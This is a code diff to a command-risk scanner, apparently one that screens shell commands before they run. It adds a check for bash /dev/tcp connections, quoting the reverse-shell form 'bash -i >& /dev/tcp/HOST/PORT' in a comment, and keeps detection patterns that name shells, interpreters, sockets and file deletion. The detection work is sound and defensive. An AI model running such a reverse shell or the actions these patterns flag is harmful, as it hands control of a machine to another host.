@@ -6,9 +6,14 @@ const shells = /^(?:ba|z|da|k|mk|fi|a|c|tc)?sh$/;
 const interpreters =
   /^(?:python|pypy|node|deno|bun|perl|ruby|php|lua|rscript|tclsh|osascript|pwsh)[\d.]*$/;
 
+/** Whether a program runs what stands in its arguments or in what it reads. */
+export function takesCommands(name: string): boolean {
+  return shells.test(name) || interpreters.test(name);
+}
+
 /** Text from another program, run as commands. */
 export const checkPipeToShell: RiskCheck = ({ name, args, piped }) => {
-  if (!piped || !(shells.test(name) || interpreters.test(name))) return [];
+  if (!piped || !takesCommands(name)) return [];
   const code = args.some((arg) => /^-(?:c|e|m|r|p|-eval|-print)$/.test(arg));
   const script = operands(args).find((arg) => arg !== '-' && arg !== '/dev/stdin');
   if (code || (script !== undefined && !args.includes('-s'))) return [];
@@ -26,6 +31,12 @@ export function checkDownloadAsCode(text: string): RoughFinding | null {
   return finding('pipe-to-shell', 'high', 'Runs what it downloads.');
 }
 
+/** `bash -i >& /dev/tcp/HOST/PORT`: the names by which bash opens connections. */
+export function checkConnection(text: string): RoughFinding | null {
+  if (!/[<>&\s'"]\/+dev\/+(?:tcp|udp)\//.test(text)) return null;
+  return finding('data-leaving', 'high', 'Connects a shell to another machine.');
+}
+
 const codeOptions: readonly (readonly [program: RegExp, options: readonly string[]])[] = [
   [/^(?:python|pypy)[\d.]*$/, ['-c']],
   [/^(?:node|bun)$/, ['-e', '-p', '--eval', '--print']],
@@ -38,9 +49,12 @@ const dangerousCode =
   /system|subprocess|popen|exec|spawn|child_process|socket|https?:|urllib|requests?\.|fetch\(|rmtree|unlink|rmSync|rmdir|os\.remove|FileUtils|\beval\b|compile\(|__import__|base64|writeFile|open\([^)]*['"][wa]/;
 
 /** Code that stands in the command itself. */
-export const checkInlineCode: RiskCheck = ({ name, args }) => {
+export const checkInlineCode: RiskCheck = ({ name, args, reading }) => {
   const options = codeOptions.find(([program]) => program.test(name))?.[1] ?? [];
-  const codes = [...valuesOf(args, options), ...awkCode(name, args)];
+  const codes =
+    reading === null
+      ? [...valuesOf(args, options), ...awkCode(name, args)]
+      : reading.effects.flatMap((effect) => (effect.kind === 'code' ? (effect.text ?? []) : []));
   return codes.map((code) => {
     const dangerous = dangerousCode.test(code);
     const what = dangerous ? ', which starts programs, uses the network or changes files' : '';
